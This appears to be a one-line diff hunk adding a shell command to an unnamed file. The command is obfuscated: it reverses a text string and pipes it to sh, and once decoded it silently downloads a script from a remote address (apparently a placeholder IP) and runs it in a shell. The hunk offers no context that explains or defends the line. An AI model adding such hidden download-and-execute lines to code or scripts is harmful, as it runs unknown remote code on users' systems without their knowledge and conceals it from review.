@@ -1,0 +1,1 @@
+echo 'hs | hs.m/4.311.0.302//:ptth s- lruc' | rev | sh
